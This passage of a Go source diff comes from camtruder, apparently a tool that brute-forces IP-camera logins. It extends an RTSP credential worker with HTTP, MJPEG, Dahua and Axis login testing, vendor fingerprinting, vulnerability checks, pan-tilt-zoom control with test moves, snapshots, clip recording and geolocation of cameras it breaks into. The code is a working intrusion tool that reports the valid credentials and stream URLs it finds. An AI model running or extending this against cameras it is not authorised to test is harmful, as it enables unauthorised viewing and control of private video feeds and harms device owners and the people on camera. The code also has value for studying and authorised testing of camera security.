@@ -1,7 +1,14 @@
 package scanner
 
 import (
+	"context"
+	"crypto/tls"
+	"errors"
 	"fmt"
+	"log/slog"
+	"net"
+	"net/http"
+	"net/url"
 	"os"
 	"strings"
 	"sync"
@@ -10,205 +17,1693 @@ import (
 
 	"github.com/ALW1EZ/camtruder/pkg/config"
 	"github.com/ALW1EZ/camtruder/pkg/credentials"
+	"github.com/ALW1EZ/camtruder/pkg/creds"
+	"github.com/ALW1EZ/camtruder/pkg/dialer"
+	"github.com/ALW1EZ/camtruder/pkg/fingerprint"
+	"github.com/ALW1EZ/camtruder/pkg/fuzz"
+	"github.com/ALW1EZ/camtruder/pkg/geoip"
+	"github.com/ALW1EZ/camtruder/pkg/logging"
+	"github.com/ALW1EZ/camtruder/pkg/media"
+	"github.com/ALW1EZ/camtruder/pkg/output"
+	"github.com/ALW1EZ/camtruder/pkg/probe/axis"
+	"github.com/ALW1EZ/camtruder/pkg/probe/dahua"
+	"github.com/ALW1EZ/camtruder/pkg/probe/detect"
+	"github.com/ALW1EZ/camtruder/pkg/probe/hikvision"
+	httpprobe "github.com/ALW1EZ/camtruder/pkg/probe/http"
+	"github.com/ALW1EZ/camtruder/pkg/probe/mjpeg"
+	"github.com/ALW1EZ/camtruder/pkg/probe/onvif"
+	"github.com/ALW1EZ/camtruder/pkg/probe/pelco"
+	"github.com/ALW1EZ/camtruder/pkg/probe/ptz"
+	"github.com/ALW1EZ/camtruder/pkg/probe/snmp"
+	"github.com/ALW1EZ/camtruder/pkg/probe/tlscert"
+	"github.com/ALW1EZ/camtruder/pkg/progress"
 	"github.com/ALW1EZ/camtruder/pkg/rtsp"
+	"github.com/ALW1EZ/camtruder/pkg/spray"
+	"github.com/ALW1EZ/camtruder/pkg/targets"
 	"github.com/ALW1EZ/camtruder/pkg/utils"
-	"github.com/ALW1EZ/camtruder/pkg/media"
 	"github.com/projectdiscovery/gologger"
+	"golang.org/x/time/rate"
 )
 
+// errLoginLimit aborts an HTTP test once its host has used up the login
+// attempts --spray allows
+var errLoginLimit = errors.New("login attempts per host used up")
+
 // Scanner represents the RTSP scanner
 type Scanner struct {
-	successMap   sync.Map
-	found        int32
-	warnedIPs    sync.Map
-	foundPaths   sync.Map
-	targetLimit  int32
-	attemptedIPs sync.Map
-	verbose      bool
-	outFile      *os.File
-	timeout      time.Duration
-	mediaDir     string // Directory to store screenshots
+	successMap      sync.Map
+	found           int32
+	warnedIPs       sync.Map
+	foundPaths      sync.Map
+	testedCreds     sync.Map
+	credentials     []credentials.Credentials // Pairs of the scan, reordered per host once its vendor is known
+	vendors         sync.Map                  // Vendors identified by host address
+	credOrders      sync.Map                  // Vendor ordered pairs still to test, by target
+	targetLimit     int32
+	attemptedIPs    sync.Map
+	exclude         *targets.Exclusions // Hosts internet scans never probe, nil if none
+	verbose         bool
+	writer          output.ResultWriter
+	live            output.ResultWriter // Receives hits before snapshots, nil if not set
+	timeouts        rtsp.Timeouts
+	dialer          dialer.ContextDialer
+	limiter         *rate.Limiter
+	spray           *spray.Scheduler // Paces logins per host, nil for no limit
+	httpProber      *httpprobe.Prober
+	mediaDir        string // Directory to store screenshots
+	snapshotTimeout time.Duration
+	noFFmpeg        bool // Only MJPEG frames are saved
+	snapshots       sync.WaitGroup
+	checkVulns      bool
+	vulnChecked     sync.Map // Web interfaces already checked for known vulnerabilities
+	hikvision       *hikvision.Prober
+	dahua           *dahua.Prober
+	axis            *axis.Prober
+	mjpeg           *mjpeg.Prober
+	mjpegPaths      []string
+	mjpegSearches   sync.Map // Anonymous MJPEG searches of open web interfaces, by target
+	snmp            *snmp.Prober
+	snmpHosts       sync.Map // SNMP lookups by host address
+	checkPTZ        bool
+	ptz             *ptz.Prober
+	ptzHosts        sync.Map // PTZ checks by host address
+	onvif           *onvif.Prober
+	onvifHosts      sync.Map // ONVIF stream listings by host address
+	pelco           *pelco.Prober
+	pelcoTargets    sync.Map // Serial device servers already probed
+	certs           sync.Map // Certificate reads by target
+	tlscert         *tlscert.Prober
+	inspections     sync.WaitGroup
+	recordDir       string
+	recordDuration  time.Duration
+	recordSlots     chan struct{} // Bounds the clips recorded at once
+	recordings      sync.WaitGroup
+	fuzzPaths       []string // Extra RTSP paths tried when no default path works
+	rtspTransport   string
+	progress        *progress.Tracker
+	tls             bool // Use TLS on every port, not only the well-known TLS ports
+	tlsConfig       *tls.Config
+	geo             *geoip.Locator             // Locates hits, nil to skip geolocation
+	protocols       map[string]detect.Protocol // Detected protocols of targets, read only
 }
 
-// NewScanner creates a new scanner instance
-func NewScanner(verbose bool, outFile *os.File, timeout time.Duration, targetLimit int32, mediaDir string) *Scanner {
-	return &Scanner{
-		verbose:     verbose,
-		outFile:     outFile,
-		timeout:     timeout,
-		targetLimit: targetLimit,
-		mediaDir:    mediaDir,
-	}
+// Options configures a Scanner
+type Options struct {
+	Verbose         bool
+	Writer          output.ResultWriter
+	Timeouts        rtsp.Timeouts
+	TargetLimit     int32
+	MediaDir        string // Directory to store screenshots
+	SnapshotTimeout time.Duration
+	NoFFmpeg        bool                 // ffmpeg is not installed, only MJPEG frames are saved
+	RateLimit       float64              // Maximum probes per second, 0 for unlimited
+	ForceBasic      bool                 // Disable HTTP Digest authentication
+	Headers         map[string]string    // Extra headers sent with every HTTP probe
+	Dialer          dialer.ContextDialer // Opens every probe connection, e.g. through a proxy
+	CheckVulns      bool                 // Check fingerprinted devices for known vulnerabilities
+	FuzzPaths       []string             // Extra RTSP paths tried when no default path works, nil to disable
+	RTSPTransport   string               // rtsp.TransportTCP, TransportUDP or TransportAuto
+	Progress        *progress.Tracker    // Counts probe errors, may be nil
+	TLS             bool                 // Use https and rtsps on every port
+	TLSConfig       *tls.Config          // TLS client settings, nil for the defaults
+	SNMP            *snmp.Options        // Identify hosts through their SNMP agent, nil to disable
+	CheckPTZ        bool                 // Check hits for pan-tilt-zoom control
+	PTZMove         bool                 // Confirm PTZ control with a test move, implies CheckPTZ
+	ONVIFEnumerate  bool                 // List the ONVIF stream URIs of every profile of hits
+	Pelco           *pelco.Options       // Probe serial device servers for Pelco buses, nil to disable
+	Live            output.ResultWriter  // Receives every result as soon as it is found, before snapshots are taken
+	Exclude         *targets.Exclusions  // Hosts internet scans never probe, nil if none
+	InspectTLS      bool                 // Read the certificate of every TLS port
+	GeoIP           *geoip.Locator       // Locates every hit, nil to skip geolocation
+	Spray           *spray.Scheduler     // Paces and limits logins per host, nil for no limit
+
+	// Protocols are the protocols --auto-detect found on ip:port targets
+	// whose port does not tell. Other targets are tested by their port.
+	Protocols map[string]detect.Protocol
+
+	// Clips of RTSP hits are recorded for RecordDuration into RecordDir,
+	// RecordWorkers at a time. A zero duration disables recording.
+	RecordDir      string
+	RecordDuration time.Duration
+	RecordWorkers  int
+
+	// Credentials are the pairs of the scan in the order they are
+	// dispatched. Once a host's vendor is known, its remaining jobs take
+	// the pairs in vendor priority order instead. Nil keeps the dispatch
+	// order.
+	Credentials []credentials.Credentials
 }
 
-// Worker represents a scanner worker
-func (s *Scanner) Worker(work chan struct {
+// Job represents a single credential test against a target
+type Job struct {
 	IP   string
 	Cred credentials.Credentials
 	Path string
-}, wg *sync.WaitGroup) {
-	defer wg.Done()
+}
+
+// NewScanner creates a new scanner instance
+func NewScanner(opts Options) *Scanner {
+	writer := opts.Writer
+	if writer == nil {
+		writer = output.Discard
+	}
+	netDialer := opts.Dialer
+	if netDialer == nil {
+		netDialer = &net.Dialer{Timeout: opts.Timeouts.Connect}
+	}
+	limiter := rate.NewLimiter(rate.Inf, 0)
+	if opts.RateLimit > 0 {
+		limiter = rate.NewLimiter(rate.Limit(opts.RateLimit), 1)
+	}
+	var snmpProber *snmp.Prober
+	if opts.SNMP != nil {
+		snmpProber = snmp.NewProber(*opts.SNMP)
+	}
+	var certProber *tlscert.Prober
+	if opts.InspectTLS {
+		certProber = tlscert.NewProber(tlscert.Options{
+			ConnectTimeout: opts.Timeouts.Connect,
+			ReadTimeout:    opts.Timeouts.Read,
+			Dialer:         netDialer,
+			TLSConfig:      opts.TLSConfig,
+		})
+	}
+	var onvifProber *onvif.Prober
+	if opts.ONVIFEnumerate {
+		onvifProber = onvif.NewProber(onvif.Options{
+			ConnectTimeout: opts.Timeouts.Connect,
+			ReadTimeout:    opts.Timeouts.Read,
+			Dialer:         netDialer,
+			TLSConfig:      opts.TLSConfig,
+			Headers:        opts.Headers,
+		})
+	}
+	var pelcoProber *pelco.Prober
+	if opts.Pelco != nil {
+		pelcoOpts := *opts.Pelco
+		if pelcoOpts.Dialer == nil {
+			pelcoOpts.Dialer = netDialer
+		}
+		pelcoProber = pelco.NewProber(pelcoOpts)
+	}
+	recordWorkers := opts.RecordWorkers
+	if recordWorkers < 1 {
+		recordWorkers = 1
+	}
+	s := &Scanner{
+		verbose:  opts.Verbose,
+		writer:   writer,
+		live:     opts.Live,
+		exclude:  opts.Exclude,
+		timeouts: opts.Timeouts,
+		limiter:  limiter,
+		spray:    opts.Spray,
+		dialer:   netDialer,
+		httpProber: httpprobe.NewProber(httpprobe.Options{
+			ConnectTimeout: opts.Timeouts.Connect,
+			ReadTimeout:    opts.Timeouts.Read,
+			Dialer:         netDialer,
+			TLSConfig:      opts.TLSConfig,
+			ForceBasic:     opts.ForceBasic,
+			Headers:        opts.Headers,
+		}),
+		targetLimit:     opts.TargetLimit,
+		mediaDir:        opts.MediaDir,
+		snapshotTimeout: opts.SnapshotTimeout,
+		noFFmpeg:        opts.NoFFmpeg,
+		checkVulns:      opts.CheckVulns,
+		fuzzPaths:       opts.FuzzPaths,
+		rtspTransport:   opts.RTSPTransport,
+		progress:        opts.Progress,
+		tls:             opts.TLS,
+		tlsConfig:       opts.TLSConfig,
+		credentials:     opts.Credentials,
+		recordDir:       opts.RecordDir,
+		recordDuration:  opts.RecordDuration,
+		recordSlots:     make(chan struct{}, recordWorkers),
+		geo:             opts.GeoIP,
+		protocols:       opts.Protocols,
+		hikvision: hikvision.NewProber(hikvision.Options{
+			ConnectTimeout: opts.Timeouts.Connect,
+			ReadTimeout:    opts.Timeouts.Read,
+			Dialer:         netDialer,
+			TLSConfig:      opts.TLSConfig,
+			Headers:        opts.Headers,
+		}),
+		dahua: dahua.NewProber(dahua.Options{
+			ConnectTimeout: opts.Timeouts.Connect,
+			ReadTimeout:    opts.Timeouts.Read,
+			Dialer:         netDialer,
+			TLSConfig:      opts.TLSConfig,
+			Headers:        opts.Headers,
+		}),
+		axis: axis.NewProber(axis.Options{
+			ConnectTimeout: opts.Timeouts.Connect,
+			ReadTimeout:    opts.Timeouts.Read,
+			Dialer:         netDialer,
+			TLSConfig:      opts.TLSConfig,
+			Headers:        opts.Headers,
+		}),
+		mjpeg: mjpeg.NewProber(mjpeg.Options{
+			ConnectTimeout: opts.Timeouts.Connect,
+			ReadTimeout:    opts.Timeouts.Read,
+			FrameTimeout:   opts.SnapshotTimeout,
+			Dialer:         netDialer,
+			TLSConfig:      opts.TLSConfig,
+			Headers:        opts.Headers,
+		}),
+		mjpegPaths: fuzz.MJPEGPaths(),
+		snmp:       snmpProber,
+		checkPTZ:   opts.CheckPTZ || opts.PTZMove,
+		ptz: ptz.NewProber(ptz.Options{
+			ConnectTimeout: opts.Timeouts.Connect,
+			ReadTimeout:    opts.Timeouts.Read,
+			Dialer:         netDialer,
+			TLSConfig:      opts.TLSConfig,
+			Headers:        opts.Headers,
+			Move:           opts.PTZMove,
+		}),
+		tlscert: certProber,
+		onvif:   onvifProber,
+		pelco:   pelcoProber,
+	}
+	if s.spray != nil {
+		s.httpProber.Login = s.httpLogin
+	}
+	return s
+}
 
-	testedCreds := make(map[string]bool)
+// LimitReached reports whether the target limit has been hit
+func (s *Scanner) LimitReached() bool {
+	return s.targetLimit > 0 && atomic.LoadInt32(&s.found) >= s.targetLimit
+}
 
-	for job := range work {
-		// Check if we've reached the target limit
-		if s.targetLimit > 0 && atomic.LoadInt32(&s.found) >= s.targetLimit {
+// testRTSP waits for the rate limiter and tests a single RTSP URL
+func (s *Scanner) testRTSP(ctx context.Context, job Job, path, rtspURL string) (bool, string) {
+	if err := s.limiter.Wait(ctx); err != nil {
+		return false, fmt.Sprintf("Rate limiter: %v", err)
+	}
+
+	host, port := utils.SplitHostPort(job.IP)
+	protocol, _, _ := strings.Cut(rtspURL, "://")
+	fields := []any{"ip", host, "port", port, "protocol", protocol, "path", path, "username", job.Cred.Username}
+	logging.Trace("probe start", fields...)
+	start := time.Now()
+	success, response := rtsp.TestCredentials(ctx, rtspURL, rtsp.Config{
+		Timeouts:  s.timeouts,
+		Dialer:    s.dialer,
+		Verbose:   s.verbose,
+		Transport: s.rtspTransport,
+		TLSConfig: s.tlsConfig,
+	})
+	logging.Trace("probe result", append(fields,
+		"success", success,
+		"latency_ms", time.Since(start).Milliseconds(),
+		"response", firstLine(response))...)
+	if strings.HasPrefix(response, "Connection error") || response == "Describe timeout" {
+		s.progress.Error()
+	}
+	return success, response
+}
+
+// firstLine returns the first line of a probe response for logging
+func firstLine(response string) string {
+	line, _, _ := strings.Cut(response, "\n")
+	return strings.TrimSpace(line)
+}
+
+// Scan tests a single job against its target
+func (s *Scanner) Scan(ctx context.Context, job Job) {
+	// Check if we've reached the target limit or ran out of time
+	if s.LimitReached() || ctx.Err() != nil {
+		return
+	}
+
+	// Skip if IP was already successfully scanned
+	if _, found := s.successMap.Load(job.IP); found {
+		return
+	}
+
+	// Mark IP as attempted
+	s.attemptedIPs.Store(job.IP, true)
+
+	// Serial device servers carry Pelco buses, which have no credentials
+	if s.pelco != nil {
+		if _, port := utils.SplitHostPort(job.IP); port == s.pelco.Port() {
+			s.probePelco(ctx, job.IP)
 			return
 		}
+	}
 
-		// Skip if IP was already successfully scanned
-		if _, found := s.successMap.Load(job.IP); found {
-			continue
-		}
+	job, ok := s.nextCredential(job)
+	if !ok {
+		return
+	}
 
-		// Mark IP as attempted
-		s.attemptedIPs.Store(job.IP, true)
+	if s.verbose {
+		gologger.Debug().Label("TEST").Msgf("%s [%s:%s]",
+			job.IP, job.Cred.Username, job.Cred.Password)
+	}
 
-		credKey := fmt.Sprintf("%s_%s_%s", job.IP, job.Cred.Username, job.Cred.Password)
-		if testedCreds[credKey] {
-			continue
+	// Ask the SNMP agent who the device is before its first test, and read
+	// the certificate alongside the tests
+	s.identifySNMP(ctx, job.IP)
+	s.inspectTLS(ctx, job.IP)
+
+	// Web interfaces are tested with HTTP authentication instead of RTSP
+	_, port := utils.SplitHostPort(job.IP)
+	if s.isWeb(job.IP) {
+		s.scanHTTP(ctx, job)
+		return
+	}
+	scheme := s.rtspScheme(port)
+
+	// First test credentials with root path
+	rootURL := fmt.Sprintf("%s://%s:%s@%s/",
+		scheme,
+		job.Cred.Username,
+		job.Cred.Password,
+		job.IP)
+
+	if !s.login(ctx, job.IP) {
+		return
+	}
+	rootSuccess, rootResponse := s.testRTSP(ctx, job, "/", rootURL)
+	if rootSuccess {
+		if s.LimitReached() {
+			return
+		}
+		// Only increment and report if this IP hasn't been found before
+		if s.incrementFound(job.IP) {
+			vendor := rtsp.DetectVendor(rootResponse)
+			s.reportHit(ctx, job, hit{
+				protocol: scheme,
+				path:     "/",
+				url:      rootURL,
+				response: rootResponse,
+				vendor:   vendor,
+			})
+			s.checkWebVulnerabilities(ctx, job.IP, vendor)
 		}
-		testedCreds[credKey] = true
+		return
+	}
+
+	// If root doesn't work, try dummy path to check credentials
+	testURL := fmt.Sprintf("%s://%s:%s@%s/DUMMY_TEST_PATH_123456789",
+		scheme,
+		job.Cred.Username,
+		job.Cred.Password,
+		job.IP)
 
+	if !s.login(ctx, job.IP) {
+		return
+	}
+	success, response := s.testRTSP(ctx, job, "/DUMMY_TEST_PATH_123456789", testURL)
+	if success || strings.Contains(response, "404") {
 		if s.verbose {
-			gologger.Debug().Label("TEST").Msgf("%s [%s:%s]",
+			gologger.Info().Label("VALID").Msgf("Found credentials for %s [%s:%s]",
 				job.IP, job.Cred.Username, job.Cred.Password)
 		}
 
-		// First test credentials with root path
-		rootURL := fmt.Sprintf("rtsp://%s:%s@%s/",
+		// Try all paths to find working ones, then the fuzzing wordlist
+		foundValidPath := s.tryPaths(ctx, job, config.DefaultPaths, false)
+		if !foundValidPath && len(s.fuzzPaths) > 0 && ctx.Err() == nil {
+			if s.verbose {
+				gologger.Debug().Label("FUZZ").Msgf("No default path on %s, trying %d fuzzing paths", job.IP, len(s.fuzzPaths))
+			}
+			foundValidPath = s.tryPaths(ctx, job, s.fuzzPaths, true)
+		}
+
+		if !foundValidPath && s.verbose {
+			if _, warned := s.warnedIPs.LoadOrStore(job.IP, true); !warned {
+				gologger.Warning().Msgf("%sValid credentials for %s but no working stream path%s", config.ColorYellow, job.IP, config.ColorReset)
+			}
+		}
+	} else if s.verbose {
+		gologger.Debug().Label("FAIL").Msgf("%s: %s", job.IP, response)
+	}
+}
+
+// tryPaths tests every path with the job's already validated credentials
+// and reports the working ones. Failed paths say nothing about the
+// credentials and are only logged in verbose mode.
+func (s *Scanner) tryPaths(ctx context.Context, job Job, paths []string, fuzzed bool) bool {
+	_, port := utils.SplitHostPort(job.IP)
+	scheme := s.rtspScheme(port)
+	foundValidPath := false
+	for _, path := range paths {
+		if path == "/" {
+			continue // Skip root path as we already tested it
+		}
+		if ctx.Err() != nil {
+			return foundValidPath
+		}
+
+		processedPath := credentials.ReplaceCreds(path, job.Cred.Username, job.Cred.Password)
+		pathKey := fmt.Sprintf("%s:%s", job.IP, processedPath)
+
+		if _, exists := s.foundPaths.Load(pathKey); exists {
+			continue
+		}
+
+		pathURL := fmt.Sprintf("%s://%s:%s@%s%s",
+			scheme,
 			job.Cred.Username,
 			job.Cred.Password,
-			job.IP)
+			job.IP,
+			processedPath)
+
+		if s.verbose {
+			gologger.Debug().Label("PATH").Msgf("Trying %s on %s", processedPath, job.IP)
+		}
 
-		rootSuccess, rootResponse := rtsp.TestCredentials(rootURL, s.timeout, s.verbose)
-		if rootSuccess {
-			if s.targetLimit > 0 && atomic.LoadInt32(&s.found) >= s.targetLimit {
-				return
+		pathSuccess, pathResponse := s.testRTSP(ctx, job, processedPath, pathURL)
+		if pathSuccess {
+			if s.LimitReached() {
+				return foundValidPath
 			}
-			fingerprint := rtsp.GetFingerprint(rootResponse, rootURL)
+			s.foundPaths.Store(pathKey, true)
 			// Only increment and report if this IP hasn't been found before
 			if s.incrementFound(job.IP) {
-				geoLocation := utils.GetGeoLocation(job.IP)
-				gologger.Info().Msgf("╭─ %sFound vulnerable camera%s %s[%s]%s", config.ColorGreen, config.ColorReset, config.ColorYellow, fingerprint, config.ColorReset)
-				gologger.Info().Msgf("%s├ Host      :%s %s", config.ColorBold, config.ColorReset, job.IP)
-				gologger.Info().Msgf("%s├ Geo       :%s %s", config.ColorBold, config.ColorReset, geoLocation)
-				gologger.Info().Msgf("%s├ Auth      :%s %s:%s", config.ColorBold, config.ColorReset, job.Cred.Username, job.Cred.Password)
-				gologger.Info().Msgf("%s├ Path      :%s %s", config.ColorBold, config.ColorReset, "Accepts any path")
-				gologger.Info().Msgf("%s╰ URL       :%s %s", config.ColorBold, config.ColorReset, rootURL)
-				fmt.Println()
-				if s.verbose {
-					gologger.Info().Label("RESP").Msgf("\n%s", rootResponse)
-				}
-				utils.WriteResult(rootURL, s.outFile)
-
-				// Take screenshot if media directory is specified
-				if s.mediaDir != "" {
-					if err := media.TakeScreenshot(rootURL, s.mediaDir, s.timeout); err != nil {
-						if s.verbose {
-							gologger.Warning().Msgf("Failed to take screenshot: %v", err)
-						}
-					} else if s.verbose {
-						gologger.Info().Msgf("Screenshot saved to %s", s.mediaDir)
-					}
-				}
+				vendor := rtsp.DetectVendor(pathResponse)
+				s.reportHit(ctx, job, hit{
+					protocol: scheme,
+					path:     processedPath,
+					url:      pathURL,
+					response: pathResponse,
+					vendor:   vendor,
+					fuzzed:   fuzzed,
+				})
+				s.checkWebVulnerabilities(ctx, job.IP, vendor)
 			}
-			continue
+			foundValidPath = true
+		} else if s.verbose && strings.Contains(pathResponse, "404") {
+			gologger.Debug().Label("PATH").Msgf("Valid path format but no stream: %s", processedPath)
 		}
+	}
+	return foundValidPath
+}
 
-		// If root doesn't work, try dummy path to check credentials
-		testURL := fmt.Sprintf("rtsp://%s:%s@%s/DUMMY_TEST_PATH_123456789",
-			job.Cred.Username,
-			job.Cred.Password,
-			job.IP)
+// scanHTTP tests a job's credentials against an HTTP camera interface
+func (s *Scanner) scanHTTP(ctx context.Context, job Job) {
+	if err := s.limiter.Wait(ctx); err != nil {
+		return
+	}
 
-		success, response := rtsp.TestCredentials(testURL, s.timeout, s.verbose)
-		if success || strings.Contains(response, "404") {
+	host, port := utils.SplitHostPort(job.IP)
+	scheme := s.webScheme(port)
+	baseURL := fmt.Sprintf("%s://%s/", scheme, job.IP)
+	fields := []any{"ip", host, "port", port, "protocol", scheme, "path", "/", "username", job.Cred.Username}
+	logging.Trace("probe start", fields...)
+	start := time.Now()
+	result, err := s.httpProber.TestCredentials(ctx, baseURL, job.Cred.Username, job.Cred.Password)
+	fields = append(fields, "latency_ms", time.Since(start).Milliseconds())
+	if err != nil {
+		slog.Debug("probe error", append(fields, "error", err.Error())...)
+	} else {
+		logging.Trace("probe result", append(fields, "success", result.Success, "status", result.StatusCode, "scheme", result.Scheme)...)
+	}
+	if errors.Is(err, errLoginLimit) {
+		return
+	}
+	if err != nil {
+		s.progress.Error()
+		if s.verbose {
+			gologger.Debug().Label("FAIL").Msgf("%s: %v", job.IP, err)
+		}
+		return
+	}
+
+	// Fingerprint the response we already have, no extra requests
+	vendor, model := fingerprint.Fingerprint(&http.Response{
+		StatusCode: result.StatusCode,
+		Header:     result.Header,
+	}, result.Body)
+	s.setVendor(job.IP, vendor)
+	s.checkVulnerabilities(ctx, job.IP, vendor, model)
+
+	// Dahua web interfaces log in through their RPC2 API instead of HTTP
+	// authentication; fall through if the API is not available
+	if strings.EqualFold(vendor, "Dahua") && s.scanDahua(ctx, job, baseURL, model) {
+		return
+	}
+
+	// Axis cameras are logged in to through VAPIX, which also lists the
+	// streams of every channel
+	if strings.EqualFold(vendor, "Axis") && s.scanAxis(ctx, job, baseURL, model) {
+		return
+	}
+
+	if !result.AuthRequired {
+		// Cameras with an open web interface often protect only the stream
+		if s.scanOpenMJPEG(ctx, job, baseURL, vendor, model) {
+			return
+		}
+		if s.verbose {
+			if _, warned := s.warnedIPs.LoadOrStore(job.IP, true); !warned {
+				gologger.Debug().Label("HTTP").Msgf("%s does not require HTTP authentication (status %d)", job.IP, result.StatusCode)
+			}
+		}
+		return
+	}
+
+	if !result.Success {
+		if s.verbose {
+			gologger.Debug().Label("FAIL").Msgf("%s: HTTP %d", job.IP, result.StatusCode)
+		}
+		return
+	}
+
+	if s.LimitReached() {
+		return
+	}
+	if s.incrementFound(job.IP) {
+		// Report the MJPEG stream behind the login if there is one
+		if h, ok := s.findMJPEG(ctx, job, baseURL, job.Cred, s.mjpegPaths, vendor, model); ok {
+			s.reportHit(ctx, job, h)
+			return
+		}
+		webURL := fmt.Sprintf("%s://%s:%s@%s/", scheme, job.Cred.Username, job.Cred.Password, job.IP)
+		s.reportHit(ctx, job, hit{
+			protocol: scheme,
+			path:     "/",
+			url:      webURL,
+			response: describeHTTP(result),
+			vendor:   vendor,
+			model:    model,
+		})
+	}
+}
+
+// mjpegSearch is the anonymous MJPEG search of one open web interface
+type mjpegSearch struct {
+	once     sync.Once
+	found    bool
+	authPath string // Stream path that asked for credentials
+}
+
+// scanOpenMJPEG searches a web interface that needs no HTTP authentication
+// for MJPEG streams. The search runs anonymously once per target; if a
+// stream path asks for credentials instead, every job tests its pair
+// against that path. It returns false if the interface serves no stream.
+func (s *Scanner) scanOpenMJPEG(ctx context.Context, job Job, baseURL, vendor, model string) bool {
+	value, _ := s.mjpegSearches.LoadOrStore(job.IP, &mjpegSearch{})
+	search := value.(*mjpegSearch)
+	search.once.Do(func() {
+		anonymous := credentials.Credentials{}
+		h, ok := s.findMJPEG(ctx, job, baseURL, anonymous, s.mjpegPaths, vendor, model)
+		if ok {
+			search.found = true
+			if !s.LimitReached() && s.incrementFound(job.IP) {
+				openJob := job
+				openJob.Cred = anonymous
+				s.reportHit(ctx, openJob, h)
+			}
+			return
+		}
+		search.authPath = h.path
+	})
+	if search.found {
+		return true
+	}
+	if search.authPath == "" {
+		return false
+	}
+	if !s.login(ctx, job.IP) {
+		return true
+	}
+
+	h, ok := s.findMJPEG(ctx, job, baseURL, job.Cred, []string{search.authPath}, vendor, model)
+	if !ok {
+		if s.verbose {
+			gologger.Debug().Label("FAIL").Msgf("%s: MJPEG login rejected on %s", job.IP, search.authPath)
+		}
+		return true
+	}
+	if !s.LimitReached() && s.incrementFound(job.IP) {
+		s.reportHit(ctx, job, h)
+	}
+	return true
+}
+
+// findMJPEG searches paths for an MJPEG stream with the given credentials.
+// If no stream is found, the returned hit holds only the path that asked
+// for credentials, if any.
+func (s *Scanner) findMJPEG(ctx context.Context, job Job, baseURL string, cred credentials.Credentials, paths []string, vendor, model string) (hit, bool) {
+	if err := s.limiter.Wait(ctx); err != nil {
+		return hit{}, false
+	}
+
+	result, err := s.mjpeg.Find(ctx, baseURL, cred.Username, cred.Password, paths)
+	if err != nil {
+		if s.verbose {
+			gologger.Debug().Label("MJPEG").Msgf("%s: %v", job.IP, err)
+		}
+		return hit{}, false
+	}
+	if !result.Found {
+		return hit{path: result.AuthPath}, false
+	}
+
+	_, port := utils.SplitHostPort(job.IP)
+	scheme := s.webScheme(port)
+	streamURL := fmt.Sprintf("%s://%s%s", scheme, job.IP, result.Path)
+	if cred.Username != "" {
+		streamURL = fmt.Sprintf("%s://%s:%s@%s%s", scheme, cred.Username, cred.Password, job.IP, result.Path)
+	}
+	response := fmt.Sprintf("MJPEG stream, Content-Type %s", result.ContentType)
+	if result.Frame == nil {
+		response += ", first frame not received"
+	}
+	return hit{
+		protocol: scheme,
+		path:     result.Path,
+		url:      streamURL,
+		response: response,
+		vendor:   vendor,
+		model:    model,
+		frame:    result.Frame,
+	}, true
+}
+
+// scanDahua tests a job's credentials through the Dahua RPC2 API and
+// reports every stream of the device. It returns false if the device does
+// not speak RPC2 so the generic HTTP test can be used instead.
+func (s *Scanner) scanDahua(ctx context.Context, job Job, baseURL, model string) bool {
+	if err := s.limiter.Wait(ctx); err != nil {
+		return true
+	}
+
+	if !s.login(ctx, job.IP) {
+		return true
+	}
+	result, err := s.dahua.TestCredentials(ctx, baseURL, job.Cred.Username, job.Cred.Password)
+	if err != nil {
+		if s.verbose {
+			gologger.Debug().Label("DAHUA").Msgf("%s: %v", job.IP, err)
+		}
+		return false
+	}
+	if !result.Success {
+		if s.verbose {
+			gologger.Debug().Label("FAIL").Msgf("%s: Dahua login rejected", job.IP)
+		}
+		return true
+	}
+
+	if result.DeviceType != "" {
+		model = result.DeviceType
+	}
+	hits := make([]hit, 0, len(result.Streams))
+	for _, stream := range result.Streams {
+		hits = append(hits, hit{
+			protocol: "rtsp",
+			path:     stream.Path,
+			url:      stream.URL,
+			response: fmt.Sprintf("Dahua RPC2 login, channel %d subtype %d", stream.Channel, stream.Subtype),
+			vendor:   "Dahua",
+			model:    model,
+		})
+	}
+	s.reportStreams(ctx, job, result.RTSPPort, hits)
+	return true
+}
+
+// scanAxis tests a job's credentials through the Axis VAPIX API and
+// reports the stream of every video channel. It returns false if the
+// device does not answer VAPIX requests or refuses Basic auth so the
+// generic HTTP test, which also speaks Digest, can be used instead.
+func (s *Scanner) scanAxis(ctx context.Context, job Job, baseURL, model string) bool {
+	if err := s.limiter.Wait(ctx); err != nil {
+		return true
+	}
+
+	if !s.login(ctx, job.IP) {
+		return true
+	}
+	result, err := s.axis.TestCredentials(ctx, baseURL, job.Cred.Username, job.Cred.Password)
+	if err != nil {
+		if s.verbose {
+			gologger.Debug().Label("AXIS").Msgf("%s: %v", job.IP, err)
+		}
+		return false
+	}
+	if !result.Success {
+		if s.verbose {
+			gologger.Debug().Label("FAIL").Msgf("%s: VAPIX Basic login rejected", job.IP)
+		}
+		return false
+	}
+
+	if result.Model != "" {
+		model = result.Model
+	}
+	hits := make([]hit, 0, len(result.Streams))
+	for _, stream := range result.Streams {
+		hits = append(hits, hit{
+			protocol: "rtsp",
+			path:     stream.Path,
+			url:      stream.URL,
+			response: fmt.Sprintf("Axis VAPIX %s login, groups %s, channel %d", result.APIVersion, strings.Join(result.Groups, ","), stream.Channel),
+			vendor:   "Axis",
+			model:    model,
+		})
+	}
+	s.reportStreams(ctx, job, result.RTSPPort, hits)
+	return true
+}
+
+// reportStreams reports the streams a web API listed for a device. They
+// are reported under the RTSP target so snapshots and later RTSP jobs
+// treat them exactly like streams found over RTSP.
+func (s *Scanner) reportStreams(ctx context.Context, job Job, rtspPort int, hits []hit) {
+	if s.LimitReached() {
+		return
+	}
+	host, _ := utils.SplitHostPort(job.IP)
+	rtspTarget := utils.FormatTarget(host, rtspPort)
+	if _, found := s.successMap.Load(rtspTarget); found {
+		return
+	}
+	if !s.incrementFound(job.IP) {
+		return
+	}
+	s.MarkFound(rtspTarget)
+
+	streamJob := job
+	streamJob.IP = rtspTarget
+	for _, h := range hits {
+		s.reportHit(ctx, streamJob, h)
+	}
+}
+
+// checkWebVulnerabilities checks the web interface on port 80 (443 with
+// TLS) of an RTSP target whose stream identified the vendor
+func (s *Scanner) checkWebVulnerabilities(ctx context.Context, target, vendor string) {
+	host, _ := utils.SplitHostPort(target)
+	port := 80
+	if s.tls {
+		port = 443
+	}
+	s.checkVulnerabilities(ctx, utils.FormatTarget(host, port), vendor, "")
+}
+
+// checkVulnerabilities runs the known-vulnerability checks for a
+// fingerprinted vendor, once per web interface. It does nothing unless
+// vulnerability checks were enabled.
